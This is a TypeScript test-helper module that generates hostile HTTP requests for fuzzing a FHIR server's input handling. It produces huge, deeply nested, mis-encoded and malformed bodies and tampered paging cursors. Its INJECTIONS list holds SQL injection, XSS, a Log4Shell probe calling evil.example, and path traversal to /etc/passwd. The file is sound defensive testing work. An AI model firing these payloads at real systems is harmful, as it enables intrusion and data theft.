/**
 * Generators of hostile requests for the hostile-input suite (issue 10): wrong types, control
 * characters, lone surrogates, huge strings, 5 MB bodies, nesting 10,000 deep, bad encodings,
 * duplicate query parameters, injection strings, and non-integer, negative or huge ids, mixed
 * into otherwise plausible requests so that they get past the first checks. Issue 33 added
 * tampered paging cursors, JavaScript property names (as parameter names, linkIds and keys), and
 * numbers and dates out of FHIR's and PostgreSQL's ranges (raw JSON text, since JSON.stringify
 * cannot write 1e400).
 */
import { deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { isFhirString } from '../../src/fhir/strings.js';

/** One request as the suite sends it; `path` is relative to the server's origin. */
export interface HostileRequest {
  readonly method: string;
  readonly path: string;
  readonly headers: Record<string, string>;
  readonly body?: string | Uint8Array;
  /** What is hostile about it, for the failure message. */
  readonly note: string;
}

// ---- strings and values -------------------------------------------------------------------

const CONTROL = fc
  .integer({ min: 0, max: 0x1f })
  .filter((c) => c !== 0x09 && c !== 0x0a && c !== 0x0d)
  .map((c) => String.fromCharCode(c));
const LONE_SURROGATE = fc.constantFrom('\uD800', '\uDBFF', '\uDC00', '\uDFFF');

export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE events; --",
  "Robert'); DROP TABLE students;--",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, sent literally.
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '\\u0000',
  '__proto__',
  'constructor',
  'prototype',
  'NaN',
  'null',
  '$where',
  '*',
  '|',
  'urn:x|',
  '|value',
  'http://evil.example/',
  'javascript:alert(1)',
  '//evil.example',
  '\u202Egnp.exe',
  '\uFEFF',
];

/** A huge string, built once per size. */
const huge = (size: number): string => 'x'.repeat(size);
const HUGE = fc.constantFrom(huge(70_000), huge(300_000), huge(900_000));

/** Strings a hostile client sends: with control characters, lone surrogates, injections, huge. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.tuple(fc.string(), CONTROL, fc.string()).map(([a, c, b]) => `${a}${c}${b}`) },
  {
    weight: 2,
    arbitrary: fc.tuple(fc.string(), LONE_SURROGATE, fc.string()).map(([a, s, b]) => `${a}${s}${b}`),
  },
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.constant('') },
  { weight: 1, arbitrary: HUGE },
);

/** A string that is valid FHIR but otherwise anything: for bodies that should reach domain code. */
export const oddString: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.constantFrom(...INJECTIONS.filter(isFhirString)),
);

/** Ids: non-integer, negative, huge, empty, encoded, plausible. */
export const hostileId: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '-1',
    '0',
    '1.5',
    '1e3',
    '0x10',
    '2147483647',
    '2147483648',
    '9999999999',
    '99999999999999999999',
    '9'.repeat(400),
    'abc',
    '%00',
    '%2F',
    '1%00',
    '1;DROP',
    '%20%31',
    '٣',
    'NaN',
    '..',
    '1/_history/1',
  ),
  fc.nat({ max: 50 }).map(String),
  fc.integer().map(String),
  fc.string({ maxLength: 10 }).map(encodeURIComponent),
);

/** Any JSON value of a wrong type, or a hostile string. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.constantFrom(1e308, -0, 2 ** 53 + 1, -1, 0.1) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileString, hostileString, { maxKeys: 3 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/**
 * Either a plausible value or a hostile one (9:1): with several fields per body, most bodies carry
 * something hostile, and enough are plausible to reach domain code.
 */
export const maybe = <T>(plausible: fc.Arbitrary<T>): fc.Arbitrary<unknown> =>
  fc.oneof({ weight: 9, arbitrary: plausible }, { weight: 1, arbitrary: hostileValue });

/**
 * Names every JavaScript object has (or sets a prototype through): as a search parameter, a linkId
 * or a key they must be names like any other (issue 33: `constructor` was an ignored parameter,
 * an enableWhen on `valueOf` answered 500).
 */
export const PROPERTY_NAMES = [
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'isPrototypeOf',
  'propertyIsEnumerable',
  'toLocaleString',
  '__defineGetter__',
  '__lookupGetter__',
  'prototype',
] as const;
export const propertyName: fc.Arbitrary<string> = fc.constantFrom(...PROPERTY_NAMES);

/** Object keys a hostile client adds: control characters, surrogates, prototype names. */
export const extraKeys: fc.Arbitrary<Record<string, unknown>> = fc.dictionary(
  fc.oneof(
    hostileString.filter((s) => s.length < 100),
    fc.constantFrom('extension', ...PROPERTY_NAMES),
  ),
  hostileValue,
  { maxKeys: 2 },
);

// ---- numbers, dates and cursors out of range (issue 33) ------------------------------------

/**
 * JSON number literals, as text: what a double cannot carry (1e400, 2^53 + 1, 1e-400), FHIR
 * integers' edges, and ordinary ones. JSON.stringify cannot write most of them.
 */
export const numberLiteral: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '1e400',
    '-1E+400',
    '1e-400',
    '9007199254740993',
    '-9007199254740993',
    '123456789012345678901234567890',
    '9223372036854775808',
    '2147483647',
    '2147483648',
    '-2147483649',
    '0',
    '-0',
    '0.1',
    '1.5',
    '1e308',
    '4.9e-324',
    '1.000000000000000000E-245',
  ),
  fc.double().filter(Number.isFinite).map(String),
  fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map(String),
);

/** Date and date-time texts off FHIR's or PostgreSQL's calendar, and at their edges. */
export const oddDate: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '0000',
    '0000-01-01',
    '0000-12-31T23:00:00Z',
    '2026-02-30',
    '2026-02-29',
    '2028-02-29',
    '0001-01-01',
    '0001-01-01T00:00:00+14:00',
    '9999-12-31',
    '9999-12-31T23:59:59-14:00',
    '10000-01-01',
    '+010000-01-01',
    '-000001-01-01',
    '2026-01-01T23:59:60Z',
    '2026-01-01T24:00:00Z',
    '2026-06-15T10:00:00.1234567891Z',
  ),
  fc
    .tuple(
      fc.integer({ min: 0, max: 10_000 }),
      fc.integer({ min: 0, max: 13 }),
      fc.integer({ min: 0, max: 32 }),
    )
    .map(
      ([y, m, d]) =>
        `${String(y).padStart(4, '0')}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}`,
    ),
);

const base64url = (text: string) => Buffer.from(text).toString('base64url');

/**
 * Paging cursors as a tampering client makes them: a search cursor (base64url JSON
 * `[direction, key, id, sort]`) with an odd date, id or text as its key; an AuditEvent cursor
 * (`a<seq>`) past PostgreSQL's bigint; history and `$everything` cursors with huge numbers.
 */
export const tamperedCursor: fc.Arbitrary<string> = fc.oneof(
  fc
    .tuple(
      fc.constantFrom('n', 'p'),
      fc.oneof(
        oddDate.map((d) => (d.includes('T') ? d : `${d}T00:00:00.000000Z`)),
        fc.constantFrom(
          '2026-02-30T10:00:00.000000Z',
          '0000-01-01T00:00:00.000000Z',
          'draft\u0000',
          '\uD800',
        ),
        fc.bigInt({ min: -(2n ** 64n), max: 2n ** 64n }).map(String),
        hostileString.filter((s) => s.length < 300),
      ),
      fc.oneof(fc.integer(), fc.constantFrom(2_147_483_648, -1, 0, 1e300)),
      fc.constantFrom('', '_id', '_lastUpdated', '-_lastUpdated', 'status', '-status', 'url'),
    )
    .map(([direction, key, id, sort]) => base64url(JSON.stringify([direction, key, id, sort]))),
  fc
    .oneof(
      fc.constantFrom('9223372036854775807', '9223372036854775808', '99999999999999999999', '-1', '0'),
      fc.bigInt({ min: 0n, max: 2n ** 66n }).map(String),
    )
    .map((seq) => base64url(`a${seq}`)),
  fc.constantFrom('2147483648', 'p2147483648', '99999999999', 'p-1', '0', 'p0').map((c) => c),
  fc.constantFrom('1-2147483648', '99-1', '0-99999999999').map(base64url),
);

// ---- bodies -------------------------------------------------------------------------------

const FIVE_MB = `{"resourceType":"Patient","text":"${'x'.repeat(5 * 1024 * 1024)}"}`;
const DEEP_ARRAY = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
const DEEP_OBJECT = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;

/** JSON text nested 10,000 deep inside a plausible resource of `resourceType`. */
const deepInside = (resourceType: string) =>
  `{"resourceType":"${resourceType}","extension":[${'{"url":"urn:x","extension":['.repeat(5_000)}${']}'.repeat(5_000)}]}`;

/** Bodies no JSON endpoint should accept: each answered 4xx before any route code runs. */
export const brokenJsonBody = (
  resourceType: string,
): fc.Arbitrary<{ body: string | Uint8Array; note: string }> =>
  fc.oneof(
    fc.constant({ body: FIVE_MB, note: '5 MB body' }),
    fc.constant({ body: DEEP_ARRAY, note: 'arrays 10,000 deep' }),
    fc.constant({ body: DEEP_OBJECT, note: 'objects 10,000 deep' }),
    fc.constant({ body: deepInside(resourceType), note: 'extension 5,000 deep' }),
    fc.constant({ body: '{"resourceType":', note: 'truncated JSON' }),
    fc.constant({ body: '"just a string"', note: 'scalar JSON' }),
    fc.constant({ body: Uint8Array.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]), note: 'invalid UTF-8' }),
    fc.constant({ body: `{"resourceType":"${resourceType}","x":"\\ud800"}`, note: 'escaped lone surrogate' }),
    fc.constant({ body: `{"resourceType":"${resourceType}","x":"a\\u0000b"}`, note: 'escaped NUL' }),
    fc.constant({
      body: `{"resourceType":"${resourceType}","\\u0001":"a"}`,
      note: 'control character in a key',
    }),
    fc.string({ maxLength: 200 }).map((s) => ({ body: s, note: 'random text' })),
    fc.uint8Array({ maxLength: 200 }).map((b) => ({ body: b, note: 'random bytes' })),
  );

/** A content encoding to declare, and whether to really apply it. */
const encodings = fc.oneof(
  { weight: 12, arbitrary: fc.constant(undefined) },
  {
    weight: 3,
    arbitrary: fc.record({
      name: fc.constantFrom(
        'gzip',
        'deflate',
        'br',
        'compress',
        'zstd',
        'gzip, br',
        'identity',
        'GZIP',
        'x-gzip',
        '',
      ),
      apply: fc.boolean(),
    }),
  },
);

/** Content types: mostly right, sometimes wrong or odd. */
const contentTypes = (right: string): fc.Arbitrary<string | undefined> =>
  fc.oneof(
    { weight: 12, arbitrary: fc.constant(right) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        `${right}; charset=latin1`,
        `${right}; charset=utf-8`,
        'text/plain',
        'application/xml',
        'multipart/form-data; boundary=x',
        'application/json',
        'application/x-www-form-urlencoded',
        '*/*',
        undefined,
      ),
    },
  );

// ---- requests -----------------------------------------------------------------------------

export interface RequestShape {
  readonly method: fc.Arbitrary<string>;
  /** The path with any query string, relative to the origin. */
  readonly path: fc.Arbitrary<string>;
  /** A plausible-but-hostile JSON body (serialised here), or a form (a list of pairs). */
  readonly body?:
    | { readonly json: fc.Arbitrary<unknown>; readonly resourceType: string; readonly contentType?: string }
    /** JSON text as written, for what JSON.stringify cannot write (1e400). */
    | { readonly raw: fc.Arbitrary<string>; readonly resourceType: string }
    | { readonly form: fc.Arbitrary<[string, string][]> };
  /** Header sets to choose from (credentials, cookies, Origin…). */
  readonly headers: fc.Arbitrary<Record<string, string>>;
}

/**
 * Percent-encodes like encodeURIComponent, which throws on a lone surrogate: that is sent as the
 * bytes a careless client would send, `%ED%A0%80` (not UTF-8).
 */
export const percentEncode = (s: string): string =>
  Array.from(s, (c) => (/^[\uD800-\uDFFF]$/.test(c) ? '%ED%A0%80' : encodeURIComponent(c))).join('');

/** Serialises a form, keeping names and values as given (control characters included). */
export const formText = (pairs: [string, string][]): string =>
  pairs.map(([k, v]) => `${percentEncode(k)}=${percentEncode(v)}`).join('&');

/** Hostile requests of one shape: body mutations, encodings, content types and extra headers. */
export const hostileRequests = (shape: RequestShape): fc.Arbitrary<HostileRequest> => {
  const body: fc.Arbitrary<{ body?: string | Uint8Array; note: string; type?: string }> = !shape.body
    ? fc.constant({ note: 'no body' })
    : 'raw' in shape.body
      ? fc.oneof(
          { weight: 6, arbitrary: shape.body.raw.map((text) => ({ body: text, note: 'raw JSON' })) },
          { weight: 1, arbitrary: brokenJsonBody(shape.body.resourceType) },
        )
      : 'json' in shape.body
        ? fc.oneof(
            {
              weight: 6,
              arbitrary: shape.body.json.map((value) => ({
                body: JSON.stringify(value),
                note: 'hostile JSON',
              })),
            },
            { weight: 1, arbitrary: brokenJsonBody(shape.body.resourceType) },
          )
        : fc.oneof(
            {
              weight: 6,
              arbitrary: shape.body.form.map((pairs) => ({ body: formText(pairs), note: 'hostile form' })),
            },
            {
              weight: 1,
              arbitrary: fc.constant({ body: `a=${'x'.repeat(200_000)}`, note: 'form over the limit' }),
            },
            {
              weight: 1,
              arbitrary: fc.constant({
                body: Array.from({ length: 1_500 }, (_, i) => `f${i}=1`).join('&'),
                note: '1,500 form fields',
              }),
            },
            {
              weight: 1,
              arbitrary: fc.constant({ body: 'a=%ED%A0%80&b=%FF%FE', note: 'form with invalid UTF-8' }),
            },
          );
  const rightType = !shape.body
    ? undefined
    : 'json' in shape.body
      ? (shape.body.contentType ?? 'application/fhir+json')
      : 'raw' in shape.body
        ? 'application/fhir+json'
        : 'application/x-www-form-urlencoded';
  return fc
    .record({
      method: shape.method,
      path: shape.path,
      headers: shape.headers,
      body,
      type: rightType ? contentTypes(rightType) : fc.constant(undefined),
      encoding: shape.body ? encodings : fc.constant(undefined),
      extra: fc.oneof(
        { weight: 5, arbitrary: fc.constant({}) },
        {
          weight: 1,
          arbitrary: fc.dictionary(
            fc.constantFrom('If-Match', 'If-None-Exist', 'Prefer', 'X-Request-Id', 'Accept', 'If-None-Match'),
            fc.oneof(
              fc.constantFrom(
                'W/"1"',
                'W/"-1"',
                'W/"99999999999999999999"',
                '*',
                'return=minimal',
                'return=representation',
              ),
              fc.string({ maxLength: 30 }).map(encodeURIComponent),
              fc.constantFrom('identifier=urn:x%7C%00', 'identifier=%ED%A0%80', 'identifier=a&identifier=b'),
            ),
            { minKeys: 1, maxKeys: 2 },
          ),
        },
      ),
    })
    .map(({ method, path, headers, body, type, encoding, extra }) => {
      const out: Record<string, string> = { ...headers, ...extra };
      if (type && body.body !== undefined) out['Content-Type'] = type;
      let payload = body.body;
      const notes = [body.note];
      if (encoding && payload !== undefined) {
        out['Content-Encoding'] = encoding.name;
        if (encoding.apply && (encoding.name === 'gzip' || encoding.name === 'x-gzip'))
          payload = gzipSync(payload);
        else if (encoding.apply && encoding.name === 'deflate') payload = deflateSync(payload);
        notes.push(`Content-Encoding ${encoding.name}${encoding.apply ? '' : ' (not applied)'}`);
      }
      return {
        method,
        path,
        headers: out,
        ...(payload !== undefined ? { body: payload } : {}),
        note: notes.join(', '),
      };
    });
};

/** A request in one line, bodies and paths cut short. */
export const describeRequest = (r: HostileRequest): string =>
  `${r.method} ${r.path.slice(0, 200)} [${r.note}] headers ${JSON.stringify(r.headers).slice(0, 300)} body ${
    r.body === undefined
      ? '-'
      : typeof r.body === 'string'
        ? JSON.stringify(r.body.slice(0, 300))
        : `${r.body.length} bytes`
  }`;

/** `?a=1&b=2` from pairs, with hostile values percent-encoded and duplicates kept. */
export const queryString = (pairs: [string, string][]): string => (pairs.length ? `?${formText(pairs)}` : '');

/**
 * Query pairs: each of `names` (mostly) with a plausible or (1 in 5) hostile value, and sometimes a
 * duplicate or a junk parameter.
 */
export const queryPairs = (
  names: readonly string[],
  plausible: fc.Arbitrary<string>,
): fc.Arbitrary<[string, string][]> => {
  const value = fc.oneof(
    { weight: 4, arbitrary: plausible },
    { weight: 1, arbitrary: hostileString.filter((s) => s.length < 5_000) },
  );
  return fc
    .tuple(
      fc
        .subarray([...new Set(names)])
        .chain((chosen) => fc.tuple(...chosen.map((name) => fc.tuple(fc.constant(name), value)))),
      fc.oneof(
        { weight: 3, arbitrary: fc.constant([] as [string, string][]) },
        {
          weight: 1,
          arbitrary: fc.array(
            fc.tuple(
              fc.oneof(
                fc.constantFrom(...names),
                hostileString.filter((s) => s.length < 200),
              ),
              fc.oneof(
                plausible,
                hostileString.filter((s) => s.length < 200),
              ),
            ),
            { minLength: 1, maxLength: 2 },
          ),
        },
      ),
    )
    .map(([known, extra]) => [...(known as [string, string][]), ...extra]);
};
